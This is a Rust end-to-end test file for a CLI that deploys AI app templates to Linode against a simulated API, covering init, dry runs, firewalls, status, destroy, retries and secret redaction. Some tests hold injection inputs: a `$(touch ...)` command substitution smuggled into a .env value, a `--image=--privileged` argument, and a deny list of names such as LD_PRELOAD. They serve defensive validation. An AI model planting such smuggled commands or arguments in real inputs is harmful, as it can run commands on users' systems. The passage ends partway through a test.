//! End-to-end tests of the real binary against the local Linode API stand-in:
//! templates, init, the plan, firewall + instance creation, HTTPS status,
//! destroy, and the API's faults.

mod support;

use std::time::Duration;

use support::*;

#[test]
fn templates_list_and_show() {
    let env = Env::new();
    let out = env.run(&["templates", "list"], None).ok();
    assert!(out.stdout.starts_with("NAME"), "{}", out.stdout);
    for name in STOCK_TEMPLATES {
        assert!(out.stdout.contains(name));
    }
    let j = env.run(&["templates", "list", "--json"], None).ok().json();
    assert_eq!(j.as_array().unwrap().len(), STOCK_TEMPLATES.len());
    let show = env.run(&["templates", "show", "chat-agent"], None).ok();
    for want in [
        "Default region:  us-ord",
        "g6-standard-2",
        "ollama/ollama:0.13.4",
        "/api/chat -> ollama (key)",
        "/api/tags -> ollama (key)",
        "CHAT_API_KEY",
        "(generated when empty)",
    ] {
        assert!(
            show.stdout.contains(want),
            "missing {want}:\n{}",
            show.stdout
        );
    }
    let j = env
        .run(&["templates", "show", "embeddings", "--json"], None)
        .ok()
        .json();
    assert_eq!(j["env"]["optional"][0]["name"], "API_KEY");
    assert_eq!(j["key_env"], "API_KEY");
    let bad = env.run(&["templates", "show", "chat-agnet"], None).fails();
    assert!(
        bad.stderr.contains("Did you mean \"chat-agent\""),
        "{}",
        bad.stderr
    );
    // Usage errors exit 2.
    assert_eq!(env.run(&["deploy", "--bogus"], None).code, 2);
}

#[test]
fn init_writes_a_private_env_with_a_generated_key_and_refuses_to_overwrite() {
    let env = Env::new();
    let dir = env.home().join("emb");
    let out = env
        .run(
            &["init", "embeddings", "--directory", dir.to_str().unwrap()],
            None,
        )
        .ok();
    let manifest = std::fs::read_to_string(dir.join("ai.linode.yml")).unwrap();
    assert!(manifest.contains("name: embeddings") && manifest.contains("region: us-ord"));
    let dotenv = std::fs::read_to_string(dir.join(".env")).unwrap();
    let key = dotenv
        .lines()
        .find_map(|l| l.strip_prefix("API_KEY="))
        .expect("API_KEY line");
    assert_eq!(key.len(), 43, "a strong generated key: {dotenv}");
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(
        std::fs::metadata(dir.join(".env"))
            .unwrap()
            .permissions()
            .mode()
            & 0o777,
        0o600
    );
    assert!(
        !out.stdout.contains(key) && !out.stderr.contains(key),
        "the key is never printed"
    );
    assert!(out.stdout.contains("Generated API_KEY"), "{}", out.stdout);
    assert!(std::fs::read_to_string(dir.join(".gitignore"))
        .unwrap()
        .contains(".env"));
    let example = std::fs::read_to_string(dir.join(".env.example")).unwrap();
    assert!(
        example.contains("# TOKENIZATION_WORKERS=2") && !example.contains(key),
        "{example}"
    );
    assert!(dir.join("README.md").exists());
    // Non-empty directory: refused, nothing touched.
    let out = env
        .run(
            &["init", "chat-agent", "--directory", dir.to_str().unwrap()],
            None,
        )
        .fails();
    assert!(out.stderr.contains("not empty"), "{}", out.stderr);
    let out = env.run(&["init", "chat-agent"], Some(&dir)).fails();
    assert!(out.stderr.contains("already exists"), "{}", out.stderr);
    assert_eq!(
        std::fs::read_to_string(dir.join("ai.linode.yml")).unwrap(),
        manifest
    );
    assert_eq!(std::fs::read_to_string(dir.join(".env")).unwrap(), dotenv);
}

#[test]
fn dry_run_works_offline_without_token_and_redacts_secrets() {
    let mut env = Env::new();
    let dir = env.project("embeddings");
    write_env(
        &dir,
        "API_KEY='s3cr3t-value-0123456789'\nSECRET_THING='p@ss w0rd $x #y'\n",
    );
    // No token and an unreachable API.
    env.extra = vec![
        ("LINODE_CLI_TOKEN".into(), "".into()),
        ("LINODE_CLI_API_HOST".into(), "127.0.0.1:1".into()),
    ];
    let out = env.run(&["deploy", "--dry-run"], Some(&dir)).ok();
    for want in [
        "POST /networking/firewalls",
        "POST /linode/instances",
        "#cloud-config",
        "skipped: the API",
        "Proxy routes",
        "@authorized header Authorization \"Bearer {$API_KEY}\"",
        "/health -> tei (public, GET)",
    ] {
        assert!(out.stdout.contains(want), "missing {want}:\n{}", out.stdout);
    }
    for secret in ["s3cr3t", "p@ss w0rd"] {
        assert!(
            !out.stdout.contains(secret) && !out.stderr.contains(secret),
            "{secret} shown"
        );
    }
    assert!(!env.registry_path().exists(), "dry run changes nothing");
    let j = env.dry_run_json(&dir);
    assert_eq!(j["request"]["body"]["region"], "us-ord");
    assert!(j["request"]["body"]["root_pass"]
        .as_str()
        .unwrap()
        .contains("redacted"));
    assert_eq!(j["requests"][0]["path"], "/networking/firewalls");
    assert_eq!(j["requests"][1]["path"], "/linode/instances");
    assert!(j["user_data"]
        .as_str()
        .unwrap()
        .contains("API_KEY=$'<redacted>'"));
    assert!(!j.to_string().contains("s3cr3t"));
}

#[test]
fn every_request_body_passes_the_official_openapi_schema() {
    let env = Env::new();
    for t in STOCK_TEMPLATES {
        let dir = env.project(t);
        let key = env.home().join("id.pub");
        std::fs::write(&key, "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE test@host\n").unwrap();
        let out = env
            .run(
                &[
                    "deploy",
                    "--dry-run",
                    "--json",
                    "--ssh-key",
                    key.to_str().unwrap(),
                    "--ssh-from",
                    "203.0.113.0/24",
                    "--ssh-from",
                    "2001:db8::/48",
                ],
                Some(&dir),
            )
            .ok()
            .json();
        for req in out["requests"].as_array().unwrap() {
            let name = format!("POST {}", req["path"].as_str().unwrap());
            let mut body = req["body"].clone();
            // The dry run redacts these two; the real values have the same type.
            if body.get("root_pass").is_some() {
                body["root_pass"] = serde_json::json!("x".repeat(68));
                body["metadata"]["user_data"] = serde_json::json!("I2Nsb3VkLWNvbmZpZwo=");
            }
            let errors = spec_errors(&name, &body);
            assert!(errors.is_empty(), "{t} {name}: {errors:?}\n{body:#}");
        }
    }
}

#[test]
fn dry_run_checks_region_and_plan_when_the_api_answers() {
    let env = Env::new();
    let dir = env.project("chat-agent");
    let out = env.run(&["deploy", "--dry-run"], Some(&dir)).ok();
    assert!(out.stdout.contains("API checks:  passed"), "{}", out.stdout);
    assert!(
        out.stdout
            .contains("Linode type: g6-standard-2, $0.036/h ($24.00/month)"),
        "{}",
        out.stdout
    );
    let out = env
        .run(&["deploy", "--dry-run", "--region", "us-chi"], Some(&dir))
        .fails();
    assert!(
        out.stderr.contains("region \"us-chi\" does not exist"),
        "{}",
        out.stderr
    );
    assert!(
        out.stderr.contains("us-ord"),
        "lists valid regions: {}",
        out.stderr
    );
}

#[test]
fn bad_settings_fail_before_any_create_call() {
    let env = Env::new();
    let dir = env.project("chat-agent");
    let key = env.home().join("id.pub");
    std::fs::write(&key, "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE test@host\n").unwrap();
    let huge = "x".repeat(100_000);
    let cases: &[(&[&str], &str)] = &[
        (&["--region", "us-chi"], "does not exist"),
        (&["--region", "ap-west"], "no Metadata service"),
        (&["--replicas", "2"], "--replicas is for --target lke"),
        (&["--cluster", "5"], "--cluster is for --target lke"),
        // Ollama's models volume would be shared by the replicas.
        (
            &["--target", "lke", "--replicas", "2"],
            "keeps state in volumes",
        ),
        (
            &["--linode-type", "g6-nanode-1"],
            "needs 4096 MB of memory, but g6-nanode-1 has 1024 MB",
        ),
        (
            &["--linode-type", "g6-standrad-2"],
            "Did you mean \"g6-standard-2\"",
        ),
        (
            &["--linode-type", "g2-gpu-rtx4000a1-s", "--region", "us-east"],
            "offers no GPU Linodes",
        ),
        (&["--app-name", "bad name!"], "app name"),
        (
            &["--image=--privileged"],
            "is not a container image reference",
        ),
        (&["--domain", "not a domain"], "is not a DNS name"),
        (&["--port", "80"], "not 80"),
        (
            &[
                "--ssh-key",
                key.to_str().unwrap(),
                "--ssh-from",
                "10.0.0.0/33",
            ],
            "--ssh-from",
        ),
        (
            &["--env-file", "/nonexistent/x.env"],
            "does not exist (given with --env-file)",
        ),
        (&["--region", &huge], "is not a Linode id"),
    ];
    for (flags, want) in cases {
        let mut args = vec!["deploy"];
        args.extend_from_slice(flags);
        let out = env.run(&args, Some(&dir)).fails();
        assert!(
            out.stderr.contains(want),
            "{:?}: {}",
            &flags[..flags.len().min(2)],
            out.stderr
        );
        assert!(
            out.stderr.len() < 2000,
            "errors quote at most an excerpt: {} bytes",
            out.stderr.len()
        );
    }
    // Names bash reserves would abort the boot script on the instance.
    for name in [
        "UID",
        "PATH",
        "SHELLOPTS",
        "BASHOPTS",
        "EUID",
        "PPID",
        "LD_PRELOAD",
    ] {
        write_env(&dir, &format!("{name}=1\n"));
        let out = env.run(&["deploy"], Some(&dir)).fails();
        assert!(
            out.stderr.contains(&format!("env var {name}"))
                && out.stderr.contains("cannot be used"),
            "{name}: {}",
            out.stderr
        );
    }
    write_env(&dir, "CHAT_API_KEY=short\n");
    let out = env.run(&["deploy"], Some(&dir)).fails();
    assert!(
        out.stderr
            .contains("CHAT_API_KEY must be 16-512 characters"),
        "{}",
        out.stderr
    );
    let llm = env.project("llm-api");
    let out = env
        .run(&["deploy", "--linode-type", "g6-standard-6"], Some(&llm))
        .fails();
    assert!(out.stderr.contains("needs an NVIDIA GPU"), "{}", out.stderr);
    assert!(env.posts().is_empty(), "no create call was made");
    assert!(
        env.posts_to("/v4/networking/firewalls").is_empty(),
        "no firewall either"
    );
    assert!(env.records().is_empty());
}

#[test]
fn missing_required_env_vars_are_named_together() {
    let env = Env::new();
    let tpl = env.home().join("needs");
    std::fs::create_dir_all(&tpl).unwrap();
    std::fs::write(
        tpl.join("template.yml"),
        "name: needs\nversion: '1'\ndeploy:\n  linode:\n    region_default: us-ord\n    type_default: g6-standard-2\n    services:\n      - {name: app, image: 'nginx:1.27', port: 80, env: ['*'], health: {path: /}}\nenv:\n  required: [NEEDED_A, NEEDED_B]\n",
    )
    .unwrap();
    env.run(&["templates", "add", tpl.to_str().unwrap()], None)
        .ok();
    let dir = env.project("needs");
    std::fs::remove_file(dir.join(".env")).unwrap();
    let out = env.run(&["deploy", "--dry-run"], Some(&dir)).fails();
    assert!(
        out.stderr.contains("NEEDED_A, NEEDED_B") && out.stderr.contains(".env"),
        "{}",
        out.stderr
    );
    write_env(&dir, "NEEDED_A=x\n");
    let out = env.run(&["deploy", "--dry-run"], Some(&dir)).fails();
    assert!(
        out.stderr.contains("missing required env var in") && out.stderr.contains("NEEDED_B"),
        "{}",
        out.stderr
    );
    write_env(&dir, "NEEDED_A='unterminated\n");
    let out = env.run(&["deploy", "--dry-run"], Some(&dir)).fails();
    assert!(out.stderr.contains(".env:1"), "{}", out.stderr);
    // The template got linode-ai's own key.
    write_env(&dir, "NEEDED_A=1\nNEEDED_B=2\n");
    let j = env.dry_run_json(&dir);
    assert_eq!(j["proxy"]["key_env"], "LINODE_AI_API_KEY");
    assert_eq!(j["generated"][0], "LINODE_AI_API_KEY");
}

#[test]
fn full_lifecycle_firewall_https_status_destroy() {
    let env = Env::new();
    let app = env.https_app();
    app.set_path("/healthz/ollama", 200, r#"{"version":"0.13.4"}"#);
    let dir = env.project("chat-agent");
    let ssh = env.home().join("id.pub");
    std::fs::write(&ssh, "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE test@host\n").unwrap();
    // An empty key: deploy generates one and saves it.
    write_env(
        &dir,
        "CHAT_API_KEY=\nOLLAMA_MODEL=qwen2.5:0.5b\nSECRET_THING='p@ss w0rd $x'\n",
    );
    let port = app.port.to_string();
    let out = env
        .run(
            &[
                "deploy",
                "--port",
                &port,
                "--ssh-key",
                ssh.to_str().unwrap(),
                "--ssh-from",
                "203.0.113.7/32",
            ],
            Some(&dir),
        )
        .ok();
    let key = std::fs::read_to_string(dir.join(".env"))
        .unwrap()
        .lines()
        .find_map(|l| l.strip_prefix("CHAT_API_KEY=").map(str::to_string))
        .unwrap();
    assert_eq!(key.len(), 43);
    assert!(
        out.stderr
            .contains("generated CHAT_API_KEY and saved it in"),
        "{}",
        out.stderr
    );
    for want in [
        "Deployed chat-agent (env: default)".to_string(),
        "Status:    provisioning".to_string(),
        format!("URL:       https://{SERVED_NAME}:{port}"),
        format!("Chat:      https://{SERVED_NAME}:{port}/"),
        format!("(open: 80/tcp, {port}/tcp, 22/tcp from 1 network)"),
        format!(
            "curl -H \"Authorization: Bearer $CHAT_API_KEY\" https://{SERVED_NAME}:{port}/api/tags"
        ),
    ] {
        assert!(
            out.stdout.contains(&want),
            "missing {want}:\n{}",
            out.stdout
        );
    }
    // The hint reads the key's one line of .env; it never sources the file
    // (that would run `$(...)` and expand `$` in values). Run as printed, with
    // a value that would run a command if sourced: the key arrives, nothing runs.
    let hint = out
        .stdout
        .lines()
        .find(|l| l.trim_start().starts_with("CHAT_API_KEY=$("))
        .unwrap_or_else(|| panic!("no key hint:\n{}", out.stdout))
        .trim()
        .to_string();
    assert!(!out.stdout.contains("set -a"), "{}", out.stdout);
    let envf = dir.join(".env");
    let original = std::fs::read_to_string(&envf).unwrap();
    let mut dotenv = original.clone();
    let marker = dir.join("sourced");
    dotenv.push_str(&format!(
        "OLLAMA_KEEP_ALIVE=\"$(touch {})\"\n",
        marker.display()
    ));
    std::fs::write(&envf, dotenv).unwrap();
    let ran = std::process::Command::new("bash")
        .arg("-c")
        .arg(format!("{hint}; printf %s \"$CHAT_API_KEY\""))
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&ran.stdout), key);
    assert!(!marker.exists(), "the hint ran a command from .env");
    std::fs::write(&envf, original).unwrap();

    // The firewall first, then the instance with it attached.
    let reqs = env.sim.requests();
    let fw_at = reqs
        .iter()
        .position(|r| r.method == "POST" && r.path == "/v4/networking/firewalls")
        .unwrap();
    let inst_at = reqs
        .iter()
        .position(|r| r.method == "POST" && r.path == "/v4/linode/instances")
        .unwrap();
    assert!(fw_at < inst_at);
    let fws = env.sim.firewalls();
    assert_eq!(fws.len(), 1);
    let (fw, attached) = &fws[0];
    let fw_id = fw["id"].as_u64().unwrap();
    assert_eq!(fw["rules"]["inbound_policy"], "DROP");
    assert_eq!(fw["rules"]["outbound_policy"], "ACCEPT");
    assert!(fw["tags"]
        .as_array()
        .unwrap()
        .contains(&serde_json::json!("build_ai")));
    let ssh_rule = fw["rules"]["inbound"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["ports"] == "22")
        .unwrap();
    assert_eq!(
        ssh_rule["addresses"]["ipv4"],
        serde_json::json!(["203.0.113.7/32"])
    );
    let posts = env.posts();
    assert_eq!(posts.len(), 1);
    let body = &posts[0];
    assert_eq!(body["firewall_id"], fw_id);
    assert_eq!(
        attached,
        &vec![env.sim.instances()[0]["id"].as_u64().unwrap()]
    );
    assert!(linode_sim::label_ok(body["label"].as_str().unwrap()));
    for t in body["tags"].as_array().unwrap() {
        let n = t.as_str().unwrap().len();
        assert!((3..=50).contains(&n), "{t}");
    }
    assert_eq!(body["root_pass"].as_str().unwrap().len(), 68);
    let doc = user_data(body);
    assert!(doc.starts_with("#cloud-config\n"));
    assert!(
        doc.contains("SECRET_THING=$'p@ss w0rd $x'"),
        "values reach the instance intact"
    );
    assert!(
        doc.contains(&format!("CHAT_API_KEY=$'{key}'")),
        "the generated key is what is sent"
    );
    assert!(doc.contains("ssh_pwauth: false"), "SSH takes keys only");
    assert!(!doc.contains("-p 11434"), "the app is never published");

    // Secrets never reach the terminal or the registry.
    let registry_text = std::fs::read_to_string(env.registry_path()).unwrap();
    for secret in [
        body["root_pass"].as_str().unwrap(),
        "p@ss w0rd",
        "test-token",
        key.as_str(),
    ] {
        assert!(
            !registry_text.contains(secret)
                && !out.stdout.contains(secret)
                && !out.stderr.contains(secret)
        );
    }
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(
        std::fs::metadata(env.registry_path())
            .unwrap()
            .permissions()
            .mode()
            & 0o777,
        0o600
    );
    let rec = &env.records()[0];
    assert_eq!(rec["hostname"], SERVED_NAME);
    assert_eq!(rec["firewall"]["kind"], "created");
    assert_eq!(rec["firewall"]["id"], fw_id);
    assert_eq!(rec["key_env"], "CHAT_API_KEY");
    assert_eq!(rec["probes"][0]["path"], "/healthz/ollama");
    assert!(rec.get("pending").is_none(), "complete");

    // Right after creation the instance is provisioning: exit 3, checked but not running.
    let run = env.run(&["status", "--json"], None).code(3);
    assert_eq!(
        run.json()["rows"][0]["status"],
        "provisioning",
        "{}",
        run.stdout
    );
    env.wait_running();
    // The boot is still pulling the model: starting, with the step.
    app.set_path(
        "/healthz/boot",
        200,
        r#"{"state":"running","step":"pull model qwen2.5:0.5b"}"#,
    );
    let j = env.run(&["status", "--json"], None).code(3).json();
    assert_eq!(j["rows"][0]["status"], "starting");
    assert_eq!(j["rows"][0]["detail"], "boot: pull model qwen2.5:0.5b");
    app.set_path("/healthz/boot", 200, r#"{"state":"done","step":"ready"}"#);
    app.set_path("/healthz/ollama", 503, "loading");
    let out = env.run(&["status"], None).code(3);
    assert!(out.stdout.contains("degraded"), "{}", out.stdout);
    app.set_path("/healthz/ollama", 200, r#"{"version":"0.13.4"}"#);
    let out = env.run(&["status", "--verbose"], None).ok();
    assert!(out.stdout.starts_with("APP"), "{}", out.stdout);
    assert!(
        out.stdout.contains("running")
            && out.stdout.contains("FIREWALL")
            && out.stdout.contains(&fw_id.to_string()),
        "{}",
        out.stdout
    );
    assert!(
        out.stdout.contains("Cost: 1 Linode at $0.036/h"),
        "{}",
        out.stdout
    );
    assert_eq!(env.records()[0]["last_status"], "running");

    // Without a terminal and without --yes, destroy refuses.
    let out = env.run(&["destroy"], None).fails();
    assert!(out.stderr.contains("--yes"), "{}", out.stderr);
    assert_eq!(env.sim.instances().len(), 1);
    let out = env
        .run(
            &[
                "destroy",
                "--app",
                "chat-agent",
                "--env",
                "default",
                "--yes",
            ],
            None,
        )
        .ok();
    assert!(out.stdout.contains("destroyed"), "{}", out.stdout);
    assert!(env.sim.instances().is_empty());
    assert!(
        env.sim.firewalls().is_empty(),
        "the firewall goes too, once the Linode let go of it"
    );
    assert!(env.records().is_empty());
    let deletes: Vec<String> = env
        .sim
        .requests()
        .iter()
        .filter(|r| r.method == "DELETE")
        .map(|r| r.path.clone())
        .collect();
    // The Linode first; then its firewall and its cache volume (chat-agent
    // has one), each once the Linode let go of it.
    assert!(
        deletes.len() == 3
            && deletes[0].starts_with("/v4/linode/instances/")
            && deletes[1].starts_with("/v4/networking/firewalls/")
            && deletes[2].starts_with("/v4/volumes/"),
        "{deletes:?}"
    );
}

#[test]
fn status_waits_for_a_certificate_instead_of_calling_it_degraded() {
    let env = Env::new();
    // A certificate from a CA the probes do not trust: no valid certificate yet.
    let other = TestCa::new();
    let app = AppServer::https(&other, &["localhost", SERVED_NAME]);
    let dir = env.project("embeddings");
    env.run(&["deploy", "--port", &app.port.to_string()], Some(&dir))
        .ok();
    env.wait_running();
    let j = env.run(&["status", "--json"], None).code(3).json();
    assert_eq!(j["rows"][0]["status"], "starting", "{j}");
    assert_eq!(j["rows"][0]["detail"], "waiting for TLS certificate", "{j}");
}

#[test]
fn deploy_wait_reports_progress_and_stops_at_a_failed_boot() {
    let env = Env::new();
    let app = env.https_app();
    app.set_path("/healthz/tei", 200, "ok");
    let dir = env.project("embeddings");
    let port = app.port.to_string();
    let out = env
        .run(
            &["deploy", "--port", &port, "--wait", "--timeout", "30"],
            Some(&dir),
        )
        .ok();
    assert!(out.stdout.contains("Status:    running"), "{}", out.stdout);
    let progress = &out.stderr;
    let (p, r) = (
        progress.find("status: provisioning"),
        progress.find("status: running"),
    );
    assert!(
        p.is_some() && r.is_some() && p < r,
        "progress order:\n{progress}"
    );
    assert_eq!(env.records()[0]["last_status"], "running");

    // A boot that failed at a step: reported at once, not after the timeout.
    let failed = env.https_app();
    failed.set_path(
        "/healthz/boot",
        200,
        r#"{"state":"failed","step":"pull ghcr.io/huggingface/text-embeddings-inference:cpu-1.9"}"#,
    );
    let started = std::time::Instant::now();
    let out = env
        .run(
            &[
                "deploy",
                "--port",
                &failed.port.to_string(),
                "--app-name",
                "second",
                "--wait",
                "--timeout",
                "60",
            ],
            Some(&dir),
        )
        .fails();
    assert!(
        out.stderr.contains(
            "boot failed at step \"pull ghcr.io/huggingface/text-embeddings-inference:cpu-1.9\""
        ),
        "{}",
        out.stderr
    );
    assert_no_hang(
        "a deploy --wait of a failed boot",
        started.elapsed(),
        Duration::from_secs(30),
    );
    // An app that never answers: a clear failure at the timeout, record kept.
    let dead = env.https_app();
    dead.set_path("/healthz/tei", 503, "no");
    let out = env
        .run(
            &[
                "deploy",
                "--port",
                &dead.port.to_string(),
                "--app-name",
                "third",
                "--wait",
                "--timeout",
                "2",
            ],
            Some(&dir),
        )
        .fails();
    assert!(out.stderr.contains("timed out after 2s"), "{}", out.stderr);
    assert_eq!(env.records().len(), 3);
}

#[test]
fn retries_honour_rate_limits_and_never_create_twice() {
    let env = Env::new();
    let dir = env.project("chat-agent");
    // 429 with Retry-After, then a 500 on create (the create may have happened:
    // looked up by label first), then busy, then success.
    env.sim.add_fault(Fault {
        retry_after: Some(1),
        ..Fault::error("GET", "/v4/regions", 429, "Too many requests")
    });
    for (status, reason) in [(500, "Internal"), (400, "Linode busy.")] {
        env.sim
            .add_fault(Fault::error("POST", "/v4/linode/instances", status, reason));
    }
    env.run(&["deploy"], Some(&dir)).ok();
    let reqs = env.sim.requests();
    assert_eq!(
        reqs.iter().filter(|r| r.path == "/v4/regions").count(),
        2,
        "429 retried once"
    );
    assert_eq!(env.posts().len(), 3, "500 and busy retried");
    assert!(reqs.iter().any(|r| r.method == "GET"
        && r.path == "/v4/linode/instances"
        && r.filter.as_deref().is_some_and(|f| f.contains("label"))));
    assert_eq!(env.sim.instances().len(), 1);
    assert_eq!(env.sim.firewalls().len(), 1);
}

#[test]
fn a_429_storm_is_ridden_out_within_the_budget() {
    let mut env = Env::new();
    env.extra
        .push(("LINODE_AI_RETRY_BUDGET_SECS".into(), "20".into()));
    let dir = env.project("chat-agent");
    // Six 429s in a row with Retry-After 1: more than the 5 attempts of other errors.
    env.sim.add_fault(Fault {
        retry_after: Some(1),
        times: 6,
        ..Fault::error("GET", "/v4/linode/types", 429, "Too many requests")
    });
    env.run(&["deploy"], Some(&dir)).ok();
    assert_eq!(
        env.sim
            .requests()
            .iter()
            .filter(|r| r.path == "/v4/linode/types")
            .count(),
        7
    );
    let mut env2 = Env::new();
    env2.extra
        .push(("LINODE_AI_RETRY_BUDGET_SECS".into(), "2".into()));
    let dir2 = env2.project("chat-agent");
    env2.sim.add_fault(Fault {
        retry_after: Some(1),
        times: 10,
        ..Fault::error("GET", "/v4/linode/types", 429, "Too many requests")
    });
    let out = env2.run(&["deploy"], Some(&dir2)).fails();
    assert!(out.stderr.contains("429"), "{}", out.stderr);
}

#[test]
fn a_create_that_timed_out_is_found_by_label_not_repeated() {
    let mut env = Env::new();
    env.extra
        .push(("LINODE_AI_API_TIMEOUT_SECS".into(), "1".into()));
    let dir = env.project("chat-agent");
    // The API creates the instance but answers too late.
    env.sim.add_fault(Fault {
        method: "POST".into(),
        path: "/v4/linode/instances".into(),
        delay_ms: 2500,
        ..Default::default()
    });
    let out = env.run(&["deploy"], Some(&dir)).ok();
    assert!(out.stdout.contains("Deployed"), "{}", out.stdout);
    assert_eq!(env.posts().len(), 1, "never posted twice");
    assert_eq!(env.sim.instances().len(), 1);
    assert!(env.records()[0]["linode_id"].as_u64().is_some());
}

#[test]
fn api_errors_are_shown_with_reason_and_leave_nothing_behind() {
    let mut env = Env::new();
    let dir = env.project("chat-agent");
    env.extra.push(("LINODE_CLI_TOKEN".into(), "wrong".into()));
    let out = env.run(&["deploy"], Some(&dir)).fails();
    assert!(
        out.stderr.contains("Invalid Token") && out.stderr.contains("401"),
        "{}",
        out.stderr
    );
    assert!(env.records().is_empty());
    env.extra = vec![("LINODE_CLI_TOKEN".into(), "".into())];
    let out = env.run(&["deploy"], Some(&dir)).fails();
    assert!(
        out.stderr.contains("LINODE_CLI_TOKEN") && out.stderr.contains("linode-cli configure"),
        "{}",
        out.stderr
    );
    // A validation error with a field, as the real API words it: the firewall
    // made for the Linode is deleted again and no record stays.
    env.extra.clear();
    env.sim.add_fault(Fault::error(
        "POST",
        "/v4/linode/instances",
        400,
        "region is not valid",
    ));
    let out = env.run(&["deploy"], Some(&dir)).fails();
    assert!(out.stderr.contains("region is not valid"), "{}", out.stderr);
    assert_eq!(env.posts().len(), 1, "validation errors are not retried");
    assert_eq!(env.posts_to("/v4/networking/firewalls").len(), 1);
    assert!(env.sim.firewalls().is_empty(), "cleaned up");
    assert!(env.records().is_empty());
    // A refused firewall: nothing is created at all.
    env.sim.add_fault(Fault::error(
        "POST",
        "/v4/networking/firewalls",
        400,
        "Too many Firewalls",
    ));
    let out = env.run(&["deploy"], Some(&dir)).fails();
    assert!(
        out.stderr.contains("Too many Firewalls") && out.stderr.contains("nothing was created"),
        "{}",
        out.stderr
    );
    assert_eq!(env.posts().len(), 1, "no instance without its firewall");
    assert!(env.records().is_empty());
}

#[test]
fn the_token_never_leaks_through_api_errors() {
    let env = Env::new();
    let dir = env.project("chat-agent");
    // The API echoes the Authorization header in its error body.
    for path in ["/v4/linode/instances", "/v4/networking/firewalls"] {
        env.sim.add_fault(Fault {
            times: 100,
            ..Fault::error(
                "GET",
                path,
                400,
                "bad request: Authorization: Bearer test-token",
            )
        });
    }
    for args in [
        &["deploy"][..],
        &["status", "-V"][..],
        &["status", "--json"][..],
        &["destroy", "--yes"][..],
    ] {
        let out = env.run(args, Some(&dir));
        assert_ne!(out.code, 0);
        assert!(
            !out.stdout.contains("test-token") && !out.stderr.contains("test-token"),
            "{args:?}: {}{}",
            out.stdout,
            out.stderr
        );
    }
    assert!(!std::fs::read_to_string(env.registry_path())
        .unwrap_or_default()
        .contains("test-token"));
}

#[test]
fn no_firewall_and_an_existing_firewall() {
    let env = Env::new();
    let dir = env.project("chat-agent");
    let out = env.run(&["deploy", "--no-firewall"], Some(&dir)).ok();
    assert!(
        out.stdout.contains("Firewall:  none (--no-firewall)"),
        "{}",
        out.stdout
    );
    assert!(
        out.stderr.contains("--no-firewall"),
        "the opt-out is said: {}",
        out.stderr
    );
    assert!(env.posts()[0].get("firewall_id").is_none());
    assert!(env.posts_to("/v4/networking/firewalls").is_empty());
    assert_eq!(env.records()[0]["firewall"]["kind"], "disabled");
    let v = env.run(&["status", "-V"], None);
    assert!(v.stdout.contains("none (--no-firewall)"), "{}", v.stdout);

    let mine = env.sim.seed_firewall("my-own-firewall");
    let out = env
        .run(
            &["deploy", "--env", "staging", "--firewall", "999999"],
            Some(&dir),
        )
        .fails();
    assert!(out.stderr.contains("--firewall 999999"), "{}", out.stderr);
    env.run(
        &[
            "deploy",
            "--env",
            "staging",
            "--firewall",
            &mine.to_string(),
        ],
        Some(&dir),
    )
    .ok();
    assert_eq!(env.posts().last().unwrap()["firewall_id"], mine);
    env.run(&["destroy", "--env", "staging", "--yes"], None)
        .ok();
    assert_eq!(env.sim.firewalls().len(), 1, "the user's firewall is kept");
}

#[test]
fn destroy_of_an_instance_already_gone_cleans_up() {
    let env = Env::new();
    let dir = env.project("chat-agent");
    // No cache volume: a Linode gone with its volume kept reads as parked.
    env.run(&["deploy", "--no-cache"], Some(&dir)).ok();
    env.run(&["deploy", "--no-cache", "--env", "staging"], Some(&dir))
        .ok();
    let id = env.records()[0]["linode_id"].as_u64().unwrap();
    // Deleted behind our back.
    assert!(env.sim.delete_instance(id));
    let j = env.run(&["status", "--json"], None).code(3).json();
    assert_eq!(j["rows"][0]["status"], "missing");
    // Two deployments and no filter: ambiguous.
    let out = env.run(&["destroy", "--yes"], None).fails();
    assert!(out.stderr.contains("2 deployments match"), "{}", out.stderr);
    let out = env
        .run(&["destroy", "--env", "default", "--yes", "--json"], None)
        .ok();
    assert!(
        out.json()[0]["result"]
            .as_str()
            .unwrap()
            .contains("already gone"),
        "{}",
        out.stdout
    );
    assert_eq!(env.records().len(), 1);
    assert_eq!(env.sim.firewalls().len(), 1, "its firewall went too");
}

#[test]
fn corrupt_registry_is_reported_and_left_untouched() {
    let env = Env::new();
    let path = env.registry_path();
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(&path, "{\"deployments\": [oops").unwrap();
    let dir = env.project("chat-agent");
    for args in [&["status"][..], &["deploy"][..], &["destroy", "--yes"][..]] {
        let out = env.run(args, Some(&dir)).fails();
        assert!(
            out.stderr.contains(path.to_str().unwrap()) && out.stderr.contains("corrupt"),
            "{args:?}: {}",
            out.stderr
        );
    }
    assert_eq!(
        std::fs::read_to_string(&path).unwrap(),
        "{\"deployments\": [oops"
    );
    assert!(env.posts().is_empty());
}

/// Registry records of running, tagged instances behind one HTTPS app.
pub fn seed_deployments(env: &Env, app: &AppServer, n: usize) {
    let mut deployments = Vec::new();
    for i in 0..n {
        let dep = format!("d-{i}");
        let tags = vec!["build_ai".to_string(), format!("build_ai_id={dep}")];
        let id = env
            .sim
            .seed_tagged(&format!("build-ai-app{i}-default-20261126T143000Z"), &tags);
        deployments.push(serde_json::json!({
            "deployment_id": dep, "app_name": format!("app{i}"), "env": "default",
            "template": "embeddings", "template_version": "0.2.0", "region": "us-ord", "linode_type": "g6-standard-2",
            "linode_id": id, "ipv4": "127.0.0.1", "hostname": "localhost",
            "url": format!("https://localhost:{}", app.port),
            "health": {"http_path": "/healthz/tei", "port": app.port},
            "probes": [{"service": "tei", "path": "/healthz/tei", "success_codes": [200], "timeout_seconds": 2}],
            "created_at": "2026-11-26T14:30:00Z", "last_status": "provisioning"
        }));
    }
    let path = env.registry_path();
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(
        &path,
        serde_json::json!({ "deployments": deployments }).to_string(),
    )
    .unwrap();
}

#[test]
fn status_lists_the_account_once_and_probes_concurrently() {
    let env = Env::new();
    env.sim.set_latency(100);
    let app = env.https_app();
    app.set_path("/healthz/tei", 200, "ok");
    seed_deployments(&env, &app, 40);
    let before = env.sim.requests().len();
